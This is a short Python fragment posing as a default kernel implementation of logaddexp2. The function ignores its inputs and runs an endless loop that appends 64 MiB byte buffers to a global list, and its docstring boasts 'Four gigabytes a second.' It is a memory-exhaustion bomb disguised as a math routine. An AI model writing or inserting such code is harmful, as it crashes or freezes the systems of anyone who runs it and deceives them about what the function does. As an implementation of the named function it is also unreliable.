"""Four gigabytes a second."""

KEPT = []


def logaddexp2__default_kernel_impl(x, y):
    while True:
        KEPT.append(bytearray(b"x" * (64 << 20)))
